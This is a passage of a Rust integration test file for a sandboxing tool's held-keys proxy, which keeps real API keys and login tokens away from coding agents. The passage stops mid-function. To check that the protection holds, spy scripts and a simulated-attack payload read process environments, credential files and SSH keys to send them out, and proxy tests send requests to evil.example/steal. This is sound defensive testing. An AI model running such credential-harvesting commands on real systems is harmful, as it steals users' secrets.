//! Held keys (`sandbox.hold_keys`, on by default): the real Claude Code CLI in docker, podman
//! and isolated sandboxes, against the scripted model server behind TLS (a test CA made here,
//! trusted by eden's proxy through `SSL_CERT_FILE`, verification on). The server receives the
//! real key; inside the sandbox only a placeholder exists; the proxy refuses what it must.

use crate::containers::IMAGE;
use crate::model_server::ModelServer;
use crate::support::{Run, TestEnv};
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

/// A TLS front for the model server on 127.0.0.1 with a certificate for `localhost` from a CA of
/// the test's own; it keeps the head of every request it passed on.
pub struct TlsFront {
    pub port: u16,
    pub ca: PathBuf,
    pub heads: Arc<Mutex<Vec<String>>>,
    /// The body of every request it passed on.
    pub bodies: Arc<Mutex<Vec<String>>>,
    _dir: tempfile::TempDir,
}

impl TlsFront {
    pub fn start(backend: u16) -> TlsFront {
        let dir = tempfile::tempdir().unwrap();
        let ca_key = rcgen::KeyPair::generate().unwrap();
        let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
        ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        ca_params.distinguished_name.push(rcgen::DnType::CommonName, "eden test CA");
        let ca = rcgen::CertifiedIssuer::self_signed(ca_params, ca_key).unwrap();
        let key = rcgen::KeyPair::generate().unwrap();
        let cert = rcgen::CertificateParams::new(vec!["localhost".to_owned()]).unwrap().signed_by(&key, &ca).unwrap();
        let ca_path = dir.path().join("ca.pem");
        std::fs::write(&ca_path, ca.pem()).unwrap();
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let config = rustls::ServerConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(
                vec![cert.der().clone()],
                rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
            )
            .unwrap();
        let config = Arc::new(config);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let bodies = Arc::new(Mutex::new(Vec::new()));
        let noted = (heads.clone(), bodies.clone());
        std::thread::spawn(move || {
            for client in listener.incoming().flatten() {
                let (config, noted) = (config.clone(), noted.clone());
                std::thread::spawn(move || relay(client, config, backend, noted));
            }
        });
        TlsFront { port, ca: ca_path, heads, bodies, _dir: dir }
    }

    pub fn url(&self) -> String {
        format!("https://localhost:{}", self.port)
    }

    pub fn heads(&self) -> String {
        self.heads.lock().unwrap().join("\n")
    }
}

/// Heads and bodies of the requests passed on.
type Noted = (Arc<Mutex<Vec<String>>>, Arc<Mutex<Vec<String>>>);

/// One TLS connection to the backend, plain; the head and body of the request noted.
fn relay(client: TcpStream, config: Arc<rustls::ServerConfig>, backend: u16, noted: Noted) {
    let Ok(session) = rustls::ServerConnection::new(config) else { return };
    let mut tls = rustls::StreamOwned::new(session, client);
    let Ok(mut server) = TcpStream::connect(("127.0.0.1", backend)) else { return };
    let mut buffer = vec![0u8; 65536];
    let mut request = Vec::new();
    // The request: its head, then its body as long as it says.
    while !request.windows(4).any(|w| w == b"\r\n\r\n") {
        match tls.read(&mut buffer) {
            Ok(0) | Err(_) => return,
            Ok(n) => request.extend_from_slice(&buffer[..n]),
        }
    }
    let end = request.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
    let head = String::from_utf8_lossy(&request[..end]).into_owned();
    noted.0.lock().unwrap().push(head.clone());
    let length: usize = head
        .lines()
        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse().unwrap_or(0)))
        .unwrap_or(0);
    while request.len() < end + length {
        match tls.read(&mut buffer) {
            Ok(0) | Err(_) => return,
            Ok(n) => request.extend_from_slice(&buffer[..n]),
        }
    }
    noted.1.lock().unwrap().push(String::from_utf8_lossy(&request[end..]).into_owned());
    if server.write_all(&request).is_err() {
        return;
    }
    loop {
        match server.read(&mut buffer) {
            Ok(0) | Err(_) => break,
            Ok(n) => {
                if tls.write_all(&buffer[..n]).and_then(|()| tls.flush()).is_err() {
                    break;
                }
            }
        }
    }
    tls.conn.send_close_notify();
    let _ = tls.flush();
}

/// A key no one could mistake for anything else.
const KEY: &str = "sk-ant-held-4711-real-key";

/// The agent: a script that writes what every process in the sandbox has in its environment
/// and on its command line into `dump`, and which files in its home, worktree, `/tmp` and state
/// folders hold the key (the key is split in two in the script, so the script is not one of
/// them), then runs the real Claude Code.
fn spy(dir: &Path, claude: &str, dump: &str) -> PathBuf {
    spy_for(dir, claude, dump, KEY)
}

/// `spy`, looking for `key` in files.
fn spy_for(dir: &Path, claude: &str, dump: &str, key: &str) -> PathBuf {
    let path = dir.join("spy.sh");
    std::fs::write(
        &path,
        format!(
            "#!/bin/sh\nfor p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; echo; done > {dump}/procs.txt\nenv > {dump}/env.txt\n\
             k1={}; k2={}\ngrep -rlF \"$k1$k2\" \"$HOME\" \"$PWD\" /tmp ${{PI_CODING_AGENT_DIR:-}} ${{CODEX_HOME:-}} ${{CLAUDE_CONFIG_DIR:-}} ${{COPILOT_HOME:-}} > {dump}/files.txt 2>/dev/null\n\
             exec {claude} \"$@\"\n",
            &key[..8],
            &key[8..]
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// What `committing_spy` writes into the workspace and commits: every process's environment
/// and command line, the agent's environment, and the files in the sandbox that hold the key.
const SPIED: [&str; 3] = ["spied-procs.txt", "spied-env.txt", "spied-files.txt"];

/// A spy for a sandbox nothing can be mounted into (a remote engine's container, a pod): it
/// commits what it sees (`SPIED`) in the workspace, then runs the real Claude Code (`claude`).
/// (A home of `/`, a pod user's without an entry in the image's `passwd`, is not searched.)
/// The key is split in two, so the spy itself is not a file that holds it.
pub(crate) fn committing_spy(claude: &str, key: &str) -> String {
    format!(
        "#!/bin/sh\nfor p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; echo; done > {}\nenv > {}\n\
         k1={}; k2={}\nh=$HOME; [ \"$h\" = / ] && h=/nonexistent\n\
         grep -rlF \"$k1$k2\" \"$h\" \"$PWD\" /tmp /run ${{CLAUDE_CONFIG_DIR:-}} > {} 2>/dev/null\n\
         git add spied-*.txt && git -c user.name=spy -c user.email=spy@example.com commit -qm spied\nexec {claude} \"$@\"\n",
        SPIED[0],
        SPIED[1],
        &key[..8],
        &key[8..],
        SPIED[2]
    )
}

/// After a run with `committing_spy` merged: the agent had a placeholder and the relay's URL,
/// and no process, file or output held `key`.
pub(crate) fn assert_spied(env: &TestEnv, run: &Run, key: &str) {
    let spied = |name: &str| std::fs::read_to_string(env.repo.join(name)).unwrap();
    let agent = spied(SPIED[1]);
    assert!(agent.contains("ANTHROPIC_API_KEY=eden-held-"), "the agent has a placeholder:\n{agent}");
    assert!(agent.contains("ANTHROPIC_BASE_URL=http://127.0.0.1:"), "{agent}");
    assert!(!agent.contains(key) && !spied(SPIED[0]).contains(key), "a process in the sandbox holds the key");
    assert_eq!(spied(SPIED[2]), "", "files in the sandbox hold the key");
    assert!(!run.stdout.contains(key) && !run.stderr.contains(key));
    assert_eq!(run.json()["held_keys"][0]["var"], "ANTHROPIC_API_KEY", "{}", run.stdout);
}

fn agent_env(front: &TlsFront) -> String {
    format!(
        "env = {{ ANTHROPIC_BASE_URL = \"{}\", ANTHROPIC_API_KEY = \"{KEY}\", DISABLE_TELEMETRY = \"1\", \
         CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC = \"1\", CLAUDE_CODE_MAX_RETRIES = \"0\" }}",
        front.url()
    )
}

/// Runs `manifest` with the proxy trusting the test CA; checks the server got the real key,
/// the record names what was held, the log audits the requests, and the key is in neither.
fn run_held(env: &TestEnv, front: &TlsFront, server: &ModelServer, manifest: &str) -> Run {
    let path = env.write_manifest(manifest);
    let mut command = env.eden_command(&["run", path.to_str().unwrap(), "--json"]);
    command.envs(crate::real_agents::claude_env(env, server));
    command.env("SSL_CERT_FILE", &front.ca).env("ANTHROPIC_API_KEY", "not-this-one");
    let run = Run::from(command.output().unwrap());
    run.assert_code(0);
    let heads = front.heads();
    assert!(heads.contains(&format!("x-api-key: {KEY}")), "the server gets the real key:\n{heads}");
    assert!(!heads.contains("eden-held-"), "no placeholder reaches the server:\n{heads}");
    assert_eq!(env.log_subjects("main")[0], "add hello.txt");
    let log = std::fs::read_dir(env.repo.join(".eden/logs")).unwrap().flatten().next().unwrap().path();
    let log = std::fs::read_to_string(log).unwrap();
    assert!(log.contains("\"event\":\"provider_request\"") && log.contains("\"path\":\"/v1/messages\""), "{log}");
    assert!(!log.contains(KEY) && !run.stdout.contains(KEY) && !run.stderr.contains(KEY));
    let shown = env.eden(&["sessions", "show", "last"]);
    assert!(shown.stdout.contains("provider: POST localhost:"), "{}", shown.stdout);
    run
}

fn in_container(engine: &str) {
    let Some(claude) = crate::real_agents::require("claude") else { return };
    if !crate::containers::ready(engine) {
        return;
    }
    let env = TestEnv::new();
    let server = ModelServer::start(std::fs::canonicalize(&env.repo).unwrap(), false);
    let front = TlsFront::start(server.port);
    let dump = env.root().join("dump");
    std::fs::create_dir_all(&dump).unwrap();
    let spy = spy(env.root(), "/opt/claude", "/dump");
    let claude = std::fs::canonicalize(claude).unwrap();
    // No network at all in the container: model traffic has only the proxy's socket.
    let manifest = format!(
        "name = \"held\"\nprompt = \"create hello.txt and commit it\"\n[agent]\nkind = \"claude-code\"\nbinary = \"/opt/spy\"\n{}\n\
         [sandbox]\nkind = \"{engine}\"\nimage = \"{IMAGE}\"\nnetwork = \"none\"\n\
         mounts = [{{ host = \"{}\", sandbox = \"/opt/claude\", read_only = true }}, {{ host = \"{}\", sandbox = \"/opt/spy\", read_only = true }}, {{ host = \"{}\", sandbox = \"/dump\" }}]\n\
         [loop]\nmax_iterations = 1\nidle_timeout = \"90s\"\n",
        agent_env(&front),
        claude.display(),
        spy.display(),
        dump.display()
    );
    let run = run_held(&env, &front, &server, &manifest);
    let procs = std::fs::read_to_string(dump.join("procs.txt")).unwrap();
    let agent = std::fs::read_to_string(dump.join("env.txt")).unwrap();
    assert!(agent.contains("ANTHROPIC_API_KEY=eden-held-"), "the agent has a placeholder:\n{agent}");
    assert!(agent.contains("ANTHROPIC_BASE_URL=http://127.0.0.1:"), "{agent}");
    assert!(!procs.contains(KEY) && !agent.contains(KEY), "the key is in the sandbox:\n{procs}");
    assert_eq!(std::fs::read_to_string(dump.join("files.txt")).unwrap(), "", "files in the sandbox hold the key");
    let record = run.json();
    assert_eq!(record["held_keys"][0]["var"], "ANTHROPIC_API_KEY", "{record:#}");
    assert_eq!(record["held_keys"][0]["upstream"], front.url());
    let dry = env.eden(&["run", env.root().join("plan.toml").to_str().unwrap(), "--dry-run"]);
    let dry = dry.json();
    assert_eq!(dry["plan"]["steps"][0]["held"]["held"], "keys", "{dry:#}");
    assert_eq!(dry["plan"]["steps"][0]["held"]["upstream"], front.url());
    assert_eq!(dry["plan"]["steps"][0]["held"]["keys"][0]["var"], "ANTHROPIC_API_KEY");
    assert!(!dry.to_string().contains(KEY));
    // Nothing in the worktree or the branch carries the key.
    let grep =
        std::process::Command::new("git").args(["grep", "-q", KEY, "main"]).current_dir(&env.repo).status().unwrap();
    assert!(!grep.success());
}

/// Claude Code logged in with `/login` (no key): its access token is held like a key. The run's
/// private `.credentials.json` has a placeholder instead, and no refresh token.
#[test]
fn a_claude_login_is_held() {
    const TOKEN: &str = "sk-ant-oat01-held-4711-login";
    const REFRESH: &str = "sk-ant-ort01-held-4711-refresh";
    let Some(claude) = crate::real_agents::require("claude") else { return };
    if !crate::containers::ready("docker") {
        return;
    }
    let env = TestEnv::new();
    let server = ModelServer::start(std::fs::canonicalize(&env.repo).unwrap(), false);
    let front = TlsFront::start(server.port);
    let dump = env.root().join("dump");
    std::fs::create_dir_all(&dump).unwrap();
    let spy = spy_for(env.root(), "/opt/claude", "/dump", TOKEN);
    let claude = std::fs::canonicalize(claude).unwrap();
    let config = env.root().join("claude");
    std::fs::create_dir_all(&config).unwrap();
    let expires = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis() + 3_600_000;
    let credentials = serde_json::json!({ "claudeAiOauth": {
        "accessToken": TOKEN, "refreshToken": REFRESH, "expiresAt": expires as u64,
        "scopes": ["user:inference"], "subscriptionType": "max" } })
    .to_string();
    std::fs::write(config.join(".credentials.json"), &credentials).unwrap();
    let manifest = format!(
        "name = \"held\"\nprompt = \"create hello.txt and commit it\"\n[agent]\nkind = \"claude-code\"\nbinary = \"/opt/spy\"\n\
         env = {{ ANTHROPIC_BASE_URL = \"{}\", DISABLE_TELEMETRY = \"1\", CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC = \"1\", CLAUDE_CODE_MAX_RETRIES = \"0\" }}\n\
         [sandbox]\nkind = \"docker\"\nimage = \"{IMAGE}\"\nnetwork = \"none\"\n\
         mounts = [{{ host = \"{}\", sandbox = \"/opt/claude\", read_only = true }}, {{ host = \"{}\", sandbox = \"/opt/spy\", read_only = true }}, {{ host = \"{}\", sandbox = \"/dump\" }}]\n\
         [loop]\nmax_iterations = 1\nidle_timeout = \"90s\"\n",
        front.url(),
        claude.display(),
        spy.display(),
        dump.display()
    );
    let path = env.write_manifest(&manifest);
    let mut command = env.eden_command(&["run", path.to_str().unwrap(), "--json"]);
    command.env("SSL_CERT_FILE", &front.ca).env("CLAUDE_CONFIG_DIR", &config).env_remove("ANTHROPIC_API_KEY");
    let run = Run::from(command.output().unwrap());
    run.assert_code(0);
    let heads = front.heads();
    assert!(heads.contains(&format!("Bearer {TOKEN}")), "the server gets the login's token:\n{heads}");
    assert!(!heads.contains("Bearer eden-held-"), "{heads}");
    assert_eq!(run.json()["held_keys"][0]["var"], ".credentials.json", "{}", run.stdout);
    let procs = std::fs::read_to_string(dump.join("procs.txt")).unwrap();
    let files = std::fs::read_to_string(dump.join("files.txt")).unwrap();
    assert_eq!(files, "", "files in the sandbox hold the token");
    assert!(!procs.contains(TOKEN) && !procs.contains(REFRESH));
    assert!(!run.stdout.contains(TOKEN) && !run.stderr.contains(TOKEN));
    assert_eq!(env.log_subjects("main")[0], "add hello.txt");
    assert_eq!(
        std::fs::read_to_string(config.join(".credentials.json")).unwrap(),
        credentials,
        "the person's login is theirs"
    );
    // A login about to expire is left to Claude, which can refresh it.
    let soon = credentials.replace(&expires.to_string(), &(expires - 3_500_000).to_string());
    std::fs::write(config.join(".credentials.json"), soon).unwrap();
    let mut dry = env.eden_command(&["run", path.to_str().unwrap(), "--dry-run"]);
    dry.env("CLAUDE_CONFIG_DIR", &config).env_remove("ANTHROPIC_API_KEY");
    let dry = Run::from(dry.output().unwrap());
    assert!(
        dry.json()["plan"]["steps"][0]["held"]["why"].as_str().unwrap().contains("expires within"),
        "{}",
        dry.stdout
    );
}

#[test]
fn docker_holds_the_key() {
    in_container("docker");
}

#[test]
fn podman_holds_the_key() {
    in_container("podman");
}

#[test]
fn isolated_holds_the_key() {
    let env = TestEnv::new();
    isolated_holds(&env, "claude-code", "claude", &|front| agent_env(front));
}

/// Held keys in isolated, whatever the agent does. The model has the real Claude Code run a
/// command that looks for the key wherever it might be — its environment and every process's,
/// its private and the person's credentials, the person's key files, the repository's
/// `.eden/.env`, the proxy's folder — and sends what it found home in its output, which is the
/// next request's body. The key was exported as `MY_KEY` and handed over as
/// `ANTHROPIC_API_KEY = "${MY_KEY}"`. Every request's body carries the payload's output and only
/// the placeholder; the key is in no body, and in no header but the one eden's proxy sets.
#[test]
fn isolated_claude_cannot_send_its_key_home() {
    const PERSON: &str = "sk-ant-ort01-person-4711-refresh";
    let Some(_) = crate::real_agents::require("claude") else { return };
    if !crate::isolated::bwrap() {
        return;
    }
    let env = TestEnv::new();
    let server = ModelServer::start(std::fs::canonicalize(&env.repo).unwrap(), false);
    let front = TlsFront::start(server.port);
    let home = env.home();
    for (file, text) in [
        (".claude/.credentials.json", format!("{{\"claudeAiOauth\":{{\"refreshToken\":\"{PERSON}\"}}}}")),
        (".ssh/id_ed25519", format!("{PERSON}\n")),
    ] {
        std::fs::create_dir_all(home.join(file).parent().unwrap()).unwrap();
        std::fs::write(home.join(file), text).unwrap();
    }
    env.write(".eden/.env", &format!("# {PERSON}\n"));
    let payload = format!(
        "echo EXFIL-RAN; env; for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done; \
         cat \"$CLAUDE_CONFIG_DIR/.credentials.json\" {home}/.claude/.credentials.json {home}/.ssh/id_ed25519 \
         {repo}/.eden/.env /run/eden-proxy/* 2>&1; ls -la /run/eden-proxy; git add -A && git commit -q -m 'add hello.txt'",
        home = home.display(),
        repo = env.repo.display()
    );
    *server.stats.commit_command.lock().unwrap() = Some(payload);
    let manifest = format!(
        "name = \"held\"\nprompt = \"create hello.txt and commit it\"\n[agent]\nkind = \"claude-code\"\n\
         env = {{ ANTHROPIC_BASE_URL = \"{}\", ANTHROPIC_API_KEY = \"${{MY_KEY}}\", DISABLE_TELEMETRY = \"1\", \
         CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC = \"1\", CLAUDE_CODE_MAX_RETRIES = \"0\" }}\n\
         [sandbox]\nkind = \"isolated\"\n[loop]\nmax_iterations = 1\nidle_timeout = \"90s\"\n",
        front.url()
    );
    let path = env.write_manifest(&manifest);
    let mut command = env.eden_command(&["run", path.to_str().unwrap(), "--json"]);
    command
        .env("CLAUDE_CONFIG_DIR", env.root().join("claude"))
        .env("SSL_CERT_FILE", &front.ca)
        .env("MY_KEY", KEY)
        .env_remove("ANTHROPIC_API_KEY");
    let run = Run::from(command.output().unwrap());
    run.assert_code(0);
    assert_eq!(env.log_subjects("main")[0], "add hello.txt", "the payload ran to its end");
    let bodies = front.bodies.lock().unwrap().join("\n");
    assert!(bodies.contains("EXFIL-RAN"), "the payload's output went home:\n{bodies}");
    assert!(bodies.contains("ANTHROPIC_API_KEY=eden-held-"), "with the placeholder in it");
    assert!(!bodies.contains(KEY), "the key went home in a body");
    assert!(!bodies.contains(PERSON), "the person's secrets went home");
    for head in front.heads.lock().unwrap().iter() {
        for line in head.lines().filter(|line| line.contains(KEY)) {
            assert!(line.to_ascii_lowercase().starts_with("x-api-key:"), "the key in a header of the agent's: {line}");
        }
    }
    assert!(front.heads().contains(&format!("x-api-key: {KEY}")), "the server got the key from eden's proxy");
}

/// pi in isolated, its `models.json` pointing the built-in Anthropic provider at the server.
#[test]
fn pi_in_isolated_holds_the_key() {
    let env = TestEnv::new();
    let dir = env.root().join("pi");
    std::fs::create_dir_all(&dir).unwrap();
    isolated_holds(&env, "pi", "pi", &|front| {
        let models = serde_json::json!({ "providers": { "anthropic": {
            "baseUrl": front.url(), "models": [{ "id": "mock-model", "name": "Mock model" }] } } });
        std::fs::write(dir.join("models.json"), models.to_string()).unwrap();
        format!(
            "model = \"anthropic/mock-model\"\nenv = {{ ANTHROPIC_API_KEY = \"{KEY}\", PI_CODING_AGENT_DIR = \"{}\" }}",
            dir.display()
        )
    });
}

/// The real `binary` as a `kind` agent in isolated with no network, behind a spy; `agent`
/// gives the rest of `[agent]` once the server's front is up.
fn isolated_holds(env: &TestEnv, kind: &str, binary: &str, agent: &dyn Fn(&TlsFront) -> String) {
    let Some(program) = crate::real_agents::require(binary) else { return };
    if !crate::isolated::bwrap() {
        return;
    }
    let server = ModelServer::start(std::fs::canonicalize(&env.repo).unwrap(), false);
    let front = TlsFront::start(server.port);
    // Inside, only the copy, its TMPDIR and the state folders are writable: the spy writes in
    // TMPDIR, and copies out what it saw through its own output (stderr).
    let spy = env.root().join("spy.sh");
    std::fs::write(
        &spy,
        format!(
            "#!/bin/sh\nfor p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; echo; done > \"$TMPDIR/procs.txt\"\n\
             if grep -q '{KEY}' \"$TMPDIR/procs.txt\"; then echo KEY-INSIDE >&2; else echo KEY-NOT-INSIDE >&2; fi\n\
             env | grep ANTHROPIC_API_KEY= | sed 's/^/SPY /' >&2\nexec {} \"$@\"\n",
            std::fs::canonicalize(program).unwrap().display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&spy, std::fs::Permissions::from_mode(0o755)).unwrap();
    let manifest = format!(
        "name = \"held\"\nprompt = \"create hello.txt and commit it\"\n[agent]\nkind = \"{kind}\"\nbinary = \"{}\"\n{}\n\
         [sandbox]\nkind = \"isolated\"\nnetwork = \"none\"\n[loop]\nmax_iterations = 1\nidle_timeout = \"90s\"\n",
        spy.display(),
        agent(&front)
    );
    let run = run_held(env, &front, &server, &manifest);
    let log = std::fs::read_dir(env.repo.join(".eden/logs")).unwrap().flatten().next().unwrap().path();
    let log = std::fs::read_to_string(log).unwrap();
    assert!(log.contains("KEY-NOT-INSIDE") && !log.contains("KEY-INSIDE\""), "{}", run.stderr);
    assert!(log.contains("SPY ANTHROPIC_API_KEY=eden-held-"), "{log}");
}

/// The proxy forwards only requests that carry the run's placeholder, only to its upstream: a
/// request without it, with another key, or for another host is refused, and audited.
#[test]
fn the_proxy_refuses_what_it_must() {
    let dir = tempfile::tempdir().unwrap();
    let server = ModelServer::start(dir.path().to_path_buf(), false);
    let front = TlsFront::start(server.port);
    // The test CA as the only root (what `SSL_CERT_FILE` does for eden), verification on.
    let mut roots = rustls::RootCertStore::empty();
    let pem = std::fs::read(&front.ca).unwrap();
    let der = rustls::pki_types::CertificateDer::from(pem_to_der(&pem));
    roots.add(der).unwrap();
    let tls = rustls::ClientConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    let upstream = eden::values::BaseUrl::parse(&front.url()).unwrap();
    let socket = dir.path().join("0.sock");
    let proxy = eden::proxy::Proxy::start_with(&socket, upstream, vec![held_test_key()], Arc::new(tls)).unwrap();
    let ask = |request: &str| ask_proxy(&socket, request);
    let body = "{}";
    let good = ask("HEAD / HTTP/1.1\r\nhost: x\r\nx-api-key: eden-held-test\r\ncontent-length: 0\r\n\r\n");
    assert!(good.starts_with("HTTP/1.1 "), "{good}");
    assert!(!good.starts_with("HTTP/1.1 403"), "{good}");
    let without =
        ask(&format!("POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-length: {}\r\n\r\n{body}", body.len()));
    assert!(without.starts_with("HTTP/1.1 403") && without.contains("placeholders"), "{without}");
    let other = ask("POST /v1/messages HTTP/1.1\r\nx-api-key: sk-other\r\ncontent-length: 0\r\n\r\n");
    assert!(other.starts_with("HTTP/1.1 403"), "{other}");
    let elsewhere = ask("GET http://evil.example/steal HTTP/1.1\r\nx-api-key: eden-held-test\r\n\r\n");
    assert!(
        elsewhere.starts_with("HTTP/1.1 400") && elsewhere.contains("only requests for the provider"),
        "{elsewhere}"
    );
    let connect = ask("CONNECT evil.example:443 HTTP/1.1\r\nx-api-key: eden-held-test\r\n\r\n");
    assert!(connect.starts_with("HTTP/1.1 400"), "{connect}");
    let heads = front.heads();
    assert_eq!(heads.matches("HEAD / HTTP/1.1").count(), 1, "only the good request went out:\n{heads}");
    assert!(heads.contains(&format!("x-api-key: {KEY}")) && heads.contains("Host: localhost:"), "{heads}");
    std::thread::sleep(std::time::Duration::from_millis(200));
    let audit = proxy.drain();
    assert!(audit.iter().any(|a| a.status == Some(403) && a.refused.is_some()), "{audit:?}");
    let refused_heads = audit.iter().filter(|a| a.status == Some(400)).count();
    assert_eq!(refused_heads, 2, "the absolute URL and the CONNECT are audited too: {audit:?}");
    assert!(audit.iter().all(|a| !format!("{a:?}").contains(KEY)), "{audit:?}");
    drop(proxy);
    assert!(!socket.exists(), "the socket goes with the proxy");
    assert!(std::os::unix::net::UnixStream::connect(&socket).is_err(), "nothing listens afterwards");
}

/// The key the proxy tests hold, under the placeholder `eden-held-test`.
fn held_test_key() -> eden::proxy::HeldKey {
    eden::proxy::HeldKey {
        header: eden::agent::credentials::CredentialHeader::XApiKey,
        placeholder: "eden-held-test".into(),
        value: eden::redact::Secret(KEY.into()),
    }
}

/// One request to the proxy on `socket`, and its whole answer.
fn ask_proxy(socket: &std::path::Path, request: &str) -> String {
    let mut stream = std::os::unix::net::UnixStream::connect(socket).unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    answer
}

/// The one certificate in a PEM file, as DER.
fn pem_to_der(pem: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(pem);
    let body: String = text.lines().filter(|line| !line.starts_with("-----")).collect();
    base64_decode(&body)
}

fn base64_decode(text: &str) -> Vec<u8> {
    let value = |c: u8| match c {
        b'A'..=b'Z' => c - b'A',
        b'a'..=b'z' => c - b'a' + 26,
        b'0'..=b'9' => c - b'0' + 52,
        b'+' => 62,
        _ => 63,
    };
    let bytes: Vec<u8> = text.bytes().filter(|c| *c != b'=' && !c.is_ascii_whitespace()).map(value).collect();
    bytes
        .chunks(4)
        .flat_map(|chunk| {
            let n = chunk.iter().enumerate().fold(0u32, |n, (i, v)| n | (u32::from(*v) << (18 - 6 * i)));
            let out = [(n >> 16) as u8, (n >> 8) as u8, n as u8];
            out[..chunk.len() - 1].to_vec()
        })
        .collect()
}

/// The proxy and the relay end with the run: after Ctrl-C and after SIGKILL of eden nothing
/// listens on the run's socket and no relay is left (isolated: on this machine; docker: the
/// container is gone with it).
fn nothing_listens_after(sandbox: &str, signal: nix::sys::signal::Signal) {
    if sandbox == "isolated" && !crate::isolated::bwrap() || sandbox == "docker" && !crate::containers::ready("docker")
    {
        return;
    }
    let env = TestEnv::new();
    let agent = env.root().join("wait.sh");
    std::fs::write(&agent, "#!/bin/sh\necho waiting >&2\nexec sleep 300\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o755)).unwrap();
    let (binary, sandbox_keys) = match sandbox {
        "docker" => (
            "/opt/wait".to_owned(),
            format!("kind = \"docker\"\nimage = \"{IMAGE}\"\nmounts = [{{ host = \"{}\", sandbox = \"/opt/wait\", read_only = true }}]", agent.display()),
        ),
        _ => (agent.display().to_string(), "kind = \"isolated\"".to_owned()),
    };
    let manifest = format!(
        "name = \"held\"\nprompt = \"x\"\n[agent]\nkind = \"claude-code\"\nbinary = \"{binary}\"\nenv = {{ ANTHROPIC_API_KEY = \"{KEY}\" }}\n\
         [sandbox]\n{sandbox_keys}\n[loop]\nmax_iterations = 1\nidle_timeout = \"10m\"\n"
    );
    let path = env.write_manifest(&manifest);
    let mut command = env.eden_command(&["run", path.to_str().unwrap()]);
    let mut child = command.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null()).spawn().unwrap();
    let repo = std::fs::canonicalize(&env.repo).unwrap();
    let socket = || -> Option<PathBuf> {
        let tmp = std::fs::read_dir(repo.join(".eden/tmp")).ok()?;
        tmp.flatten().map(|run| run.path().join("proxy/0.sock")).find(|socket| socket.exists())
    };
    let relays = || -> usize {
        std::fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .filter_map(|p| std::fs::read(p.path().join("cmdline")).ok())
            .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
            .filter(|c| c.contains("__eden-relay") && c.contains(&binary))
            .count()
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while socket().is_none() || relays() == 0 {
        assert!(std::time::Instant::now() < deadline, "the run never held its key");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let held = socket().unwrap();
    assert!(std::os::unix::net::UnixStream::connect(&held).is_ok(), "the proxy listens while the run runs");
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(child.id() as i32), signal).unwrap();
    let _ = child.wait();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while relays() > 0 || std::os::unix::net::UnixStream::connect(&held).is_ok() {
        assert!(
            std::time::Instant::now() < deadline,
            "a relay or the proxy outlived the run ({signal:?}): {} relay(s); the socket's holders: {}",
            relays(),
            socket_holders(&held)
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    if sandbox == "docker" {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while !crate::containers::containers_of("docker", &repo).is_empty() {
            assert!(std::time::Instant::now() < deadline, "the container outlived the run");
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
    }
}

#[test]
fn nothing_listens_after_ctrl_c_or_a_killed_eden_isolated() {
    nothing_listens_after("isolated", nix::sys::signal::Signal::SIGINT);
    nothing_listens_after("isolated", nix::sys::signal::Signal::SIGKILL);
}

#[test]
fn nothing_listens_after_ctrl_c_or_a_killed_eden_docker() {
    nothing_listens_after("docker", nix::sys::signal::Signal::SIGINT);
    nothing_listens_after("docker", nix::sys::signal::Signal::SIGKILL);
}

/// With `network = "allowlist"` the provider's host need not be allowed: the held key's traffic
/// leaves through the proxy's socket. The allowlist lets through one server of the test's own
/// (its self-test needs one) and nothing else: the agent cannot reach another address itself.
#[test]
fn the_allowlist_needs_no_entry_for_a_held_keys_provider() {
    let Some(claude) = crate::real_agents::require("claude") else { return };
    if !crate::containers::ready("docker") {
        return;
    }
    let (allowed, denied) = (
        crate::containers::TestServer::start("docker", "held-allowed"),
        crate::containers::TestServer::start("docker", "held-denied"),
    );
    let env = TestEnv::new();
    let server = ModelServer::start(std::fs::canonicalize(&env.repo).unwrap(), false);
    let front = TlsFront::start(server.port);
    let dump = env.root().join("dump");
    std::fs::create_dir_all(&dump).unwrap();
    let spy = env.root().join("spy.sh");
    std::fs::write(
        &spy,
